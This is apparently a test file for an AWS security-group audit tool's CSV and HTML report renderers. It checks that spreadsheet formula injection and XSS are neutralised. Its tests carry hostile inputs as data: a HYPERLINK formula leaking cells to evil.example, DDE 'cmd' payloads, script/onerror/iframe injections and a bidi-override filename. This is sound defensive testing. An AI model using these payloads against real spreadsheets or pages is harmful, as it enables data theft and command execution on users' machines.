/**
 * The audit reports (handlers/core/report/): CSV as RFC 4180 says and safe to open in a spreadsheet; HTML that is
 * self-contained, inert (CSP, no script, nothing fetched) and shows account text only as text.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AUDIT_STATUSES, type AuditedGroup, type AuditStatus, summarizeAudit } from '../../../handlers/core/audit.ts';
import { AUDIT_CSV_HEADER, renderAuditCsv } from '../../../handlers/core/report/csv.ts';
import { AUDIT_REPORT_CSP, CHART_MAX_BARS, renderAuditHtml } from '../../../handlers/core/report/html.ts';

const hostile = JSON.parse(
  readFileSync(join(import.meta.dirname, '..', '..', 'fixtures', 'hostile', 'texts.json'), 'utf8'),
) as Record<string, string>;

/** An RFC 4180 reader, written from the RFC's grammar (not from the writer): records of fields, CRLF between. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let index = 0;
  let quoted = false;
  while (index < text.length) {
    const character = text[index] as string;
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 2;
      } else if (character === '"') {
        quoted = false;
        index++;
      } else {
        field += character;
        index++;
      }
    } else if (character === '"' && field === '') {
      quoted = true;
      index++;
    } else if (character === ',') {
      record.push(field);
      field = '';
      index++;
    } else if (character === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else {
      if (character === '"' || character === '\r' || character === '\n')
        throw new Error(`bare ${JSON.stringify(character)} at ${index}`);
      field += character;
      index++;
    }
  }
  if (quoted) throw new Error('unterminated quote');
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

function group(overrides: Partial<AuditedGroup> = {}): AuditedGroup {
  return {
    accountId: '111111111111',
    region: 'eu-west-1',
    vpcId: 'vpc-0a1b2c3d4e5f60718',
    groupId: 'sg-0a1b2c3d4e5f60718',
    status: 'in use',
    members: 3,
    references: 1,
    rules: 2,
    reasons: [],
    ...overrides,
  };
}

const ORGANIZATION: AuditedGroup[] = [
  group(),
  group({ vpcId: 'vpc-2', groupId: 'sg-2', status: 'empty', members: 0, references: 0 }),
  group({ region: 'us-east-1', vpcId: 'vpc-3', groupId: 'sg-3', status: 'compliant', members: 0, rules: 0 }),
  group({
    accountId: '222222222222',
    vpcId: 'vpc-4',
    groupId: 'sg-4',
    status: 'blocked',
    reasons: ['sg-9 (web, "prod") has 60 inbound rules: the quota is 60.', 'Second reason.'],
  }),
  group({ accountId: '222222222222', vpcId: 'vpc-5', groupId: 'sg-5', status: 'excluded', reasons: ['opt-out'] }),
  {
    accountId: '333333333333',
    region: 'eu-west-1',
    status: 'unreachable',
    members: 0,
    references: 0,
    rules: 0,
    reasons: ['AccessDenied: not authorized to perform sts:AssumeRole'],
  },
];

describe('the audit as CSV', () => {
  it('has a header and one record per row, CRLF-terminated, counts as numbers and blanks where nothing was read', () => {
    const text = renderAuditCsv({ groups: ORGANIZATION });
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records[0]).toEqual([...AUDIT_CSV_HEADER]);
    expect(records).toHaveLength(ORGANIZATION.length + 1);
    expect(records[1]).toEqual([
      '111111111111',
      'eu-west-1',
      'vpc-0a1b2c3d4e5f60718',
      'sg-0a1b2c3d4e5f60718',
      'in use',
      '3',
      '1',
      '2',
      '',
    ]);
    expect(records[4]?.[8]).toBe('sg-9 (web, "prod") has 60 inbound rules: the quota is 60.; Second reason.');
    expect(records[6]).toEqual([
      '333333333333',
      'eu-west-1',
      '',
      '',
      'unreachable',
      '',
      '',
      '',
      'AccessDenied: not authorized to perform sts:AssumeRole',
    ]);
  });

  it('quotes a field with a comma or a quote and doubles its quotes (RFC 4180 §2.6, §2.7)', () => {
    const text = renderAuditCsv({ groups: [group({ reasons: ['a "quoted", name'] })] });
    expect(text.split('\r\n')[1]).toMatch(/,"a ""quoted"", name"$/);
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ])('makes a cell starting with %s text, with a leading apostrophe', (_start, formula) => {
    const records = parseCsv(
      renderAuditCsv({
        groups: [group({ accountId: formula, region: formula, vpcId: formula, groupId: formula, reasons: [formula] })],
      }),
    );
    expect(records[1]?.filter((cell) => cell === `'${formula}`)).toHaveLength(5);
  });

  it('shows control, bidi and invisible characters as escapes: no raw tab, CR or line break reaches a cell', () => {
    const texts = Object.values(hostile).filter((text) => !text.includes('Text anyone'));
    const records = parseCsv(renderAuditCsv({ groups: texts.map((text) => group({ vpcId: text, reasons: [text] })) }));
    expect(records).toHaveLength(texts.length + 1);
    for (const cell of records.flat()) {
      expect(cell).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(records[1]?.[2]).toBe('invoice\\u{202E}fdp.exe');
  });

  it('reads back as it was written, whatever the account text, and never starts a cell as a formula', () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 });
    fc.assert(
      fc.property(
        fc.array(fc.record({ vpc: text, reasons: fc.array(text, { maxLength: 3 }) }), { maxLength: 5 }),
        (rows) => {
          const records = parseCsv(
            renderAuditCsv({ groups: rows.map((row) => group({ vpcId: row.vpc, reasons: row.reasons })) }),
          );
          expect(records).toHaveLength(rows.length + 1);
          for (const record of records) {
            expect(record).toHaveLength(AUDIT_CSV_HEADER.length);
            for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          }
        },
      ),
    );
  });
});

const GENERATED_AT = new Date('2026-12-06T03:30:00Z');

/** Every element and attribute the report's own markup uses: anything else came from data. */
const REPORT_ELEMENTS = new Set(
  'html head meta title style body main h1 h2 p time ul li strong figure svg g rect text line figcaption span div table thead tbody tfoot tr th td code dl dt dd footer'.split(
    ' ',
  ),
);
const REPORT_ATTRIBUTES = new Set(
  'lang charset http-equiv content name datetime class aria-label aria-labelledby data-status data-count data-place xmlns viewbox role id x y x1 y1 x2 y2 width height text-anchor'.split(
    ' ',
  ),
);

/** The tags of the page: since text is escaped, every `<` starts one of ours. */
function tagsOf(page: string): { element: string; attributes: string[] }[] {
  return [...page.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map((match) => ({
    element: (match[1] as string).toLowerCase(),
    attributes: [...(match[2] as string).matchAll(/\s([^\s=/>]+)(?:="[^"]*")?/g)].map((attribute) =>
      (attribute[1] as string).toLowerCase(),
    ),
  }));
}

describe('the audit as HTML', () => {
  it('counts by status per account and region, totals that equal the audit summary', () => {
    const page = renderAuditHtml({ groups: ORGANIZATION }, { generatedAt: GENERATED_AT });
    const summary = summarizeAudit(ORGANIZATION);
    const counts = /<table id="counts">([\s\S]*?)<\/table>/.exec(page)?.[1] ?? '';
    const rowOf = (match: string) =>
      [...match.matchAll(/<td class="n[^"]*">(\d+)<\/td>/g)].map((cell) => Number(cell[1]));
    const bodyRows = [...(/<tbody>([\s\S]*?)<\/tbody>/.exec(counts)?.[1] ?? '').matchAll(/<tr>([\s\S]*?)<\/tr>/g)];
    expect(bodyRows.map((row) => rowOf(row[1] as string))).toEqual([
      [1, 1, 0, 0, 0, 0, 2], // 111111111111 eu-west-1
      [0, 0, 1, 0, 0, 0, 1], // 111111111111 us-east-1
      [0, 0, 0, 1, 1, 0, 2], // 222222222222 eu-west-1
      [0, 0, 0, 0, 0, 1, 1], // 333333333333 eu-west-1
    ]);
    const total = rowOf(/<tfoot>([\s\S]*?)<\/tfoot>/.exec(counts)?.[1] ?? '');
    expect(total).toEqual([...AUDIT_STATUSES.map((status) => summary[status]), ORGANIZATION.length]);
    for (const status of AUDIT_STATUSES)
      expect(page).toContain(`data-status="${status}"><strong>${summary[status]}</strong>`);
  });

  it('draws one bar per account and region, a segment per status with its count', () => {
    const page = renderAuditHtml({ groups: ORGANIZATION }, { generatedAt: GENERATED_AT });
    const svg = /<svg[\s\S]*?<\/svg>/.exec(page)?.[0] ?? '';
    expect([...svg.matchAll(/<g class="row"/g)]).toHaveLength(4);
    const segments = [...svg.matchAll(/data-status="([^"]+)" data-count="(\d+)"/g)];
    const drawn: Partial<Record<AuditStatus, number>> = {};
    for (const [, status, count] of segments)
      drawn[status as AuditStatus] = (drawn[status as AuditStatus] ?? 0) + Number(count);
    const summary = summarizeAudit(ORGANIZATION);
    for (const status of AUDIT_STATUSES) expect(drawn[status] ?? 0).toBe(summary[status]);
  });

  it('draws one bar per account when there are too many account/region pairs, and says so', () => {
    const regions = Array.from({ length: CHART_MAX_BARS + 1 }, (_, index) => `eu-test-${index + 1}`);
    const rows = regions.map((region) => group({ region }));
    const page = renderAuditHtml({ groups: rows }, { generatedAt: GENERATED_AT });
    expect([...page.matchAll(/<g class="row"/g)]).toHaveLength(1);
    expect(page).toContain('per account (41 account/region pairs are too many bars');
    expect([...page.matchAll(/<tr><td><code>111111111111<\/code><\/td>/g)]).toHaveLength(regions.length);
  });

  it('lists every row with its status and each of its reasons', () => {
    const page = renderAuditHtml({ groups: ORGANIZATION }, { generatedAt: GENERATED_AT });
    const rows = [...(/<table id="groups">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(page)?.[1] ?? '').matchAll(/<tr /g)];
    expect(rows).toHaveLength(ORGANIZATION.length);
    expect(page).toContain(
      '<li>sg-9 (web, &quot;prod&quot;) has 60 inbound rules: the quota is 60.</li><li>Second reason.</li>',
    );
    expect(page).toContain('<li>AccessDenied: not authorized to perform sts:AssumeRole</li>');
  });

  it('is inert: a strict CSP that allows only its own stylesheet by hash, no script, no URL to load', () => {
    const page = renderAuditHtml({ groups: ORGANIZATION }, { generatedAt: GENERATED_AT });
    const style = /<style>([\s\S]*?)<\/style>/.exec(page)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="${AUDIT_REPORT_CSP}">`);
    expect(AUDIT_REPORT_CSP).toBe(
      `default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'`,
    );
    expect(page).not.toMatch(/<script|\bsrc=|\bhref=|\bon\w+=|url\(|@import/i);
    // The only URL is the SVG namespace, which names and loads nothing.
    expect([...page.matchAll(/https?:\/\/[^\s"'<>]+/g)].map((match) => match[0])).toEqual([
      'http://www.w3.org/2000/svg',
    ]);
  });

  it('shows hostile account text as text: no element, attribute or control character comes from it', () => {
    const attacks = [
      '<script>document.title="pwned"</script>',
      '"><img src=x onerror=alert(1)>',
      "'><svg onload=alert(1)>",
      '</style><script>alert(1)</script>',
      '</title></svg><iframe src="https://evil.example">',
      '<!--',
      ']]><![CDATA[',
      ...Object.values(hostile),
    ];
    const rows = attacks.map((attack, index) =>
      group({
        accountId: attack,
        region: attack,
        vpcId: attack,
        groupId: `${attack}${index}`,
        status: AUDIT_STATUSES[index % AUDIT_STATUSES.length] as AuditStatus,
        reasons: [attack, `${attack} again`],
      }),
    );
    const page = renderAuditHtml({ groups: rows }, { generatedAt: GENERATED_AT });
    for (const tag of tagsOf(page)) {
      expect(REPORT_ELEMENTS).toContain(tag.element);
      for (const attribute of tag.attributes) expect(REPORT_ATTRIBUTES).toContain(attribute);
    }
    expect(page).not.toMatch(/<script|<img|<iframe|<!--|<!\[CDATA/i);
    expect(page.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(page).toContain('&lt;script&gt;document.title=&quot;pwned&quot;&lt;/script&gt;');
    expect(page).toContain('invoice\\u{202E}fdp.exe');
  });

  it('says when it was generated', () => {
    const page = renderAuditHtml({ groups: ORGANIZATION }, { generatedAt: GENERATED_AT });
    expect(page).toContain('<title>Default security group audit, 2026-12-06 03:30 UTC</title>');
    expect(page).toContain('<time datetime="2026-12-06T03:30:00.000Z">2026-12-06 03:30 UTC</time>');
  });
});
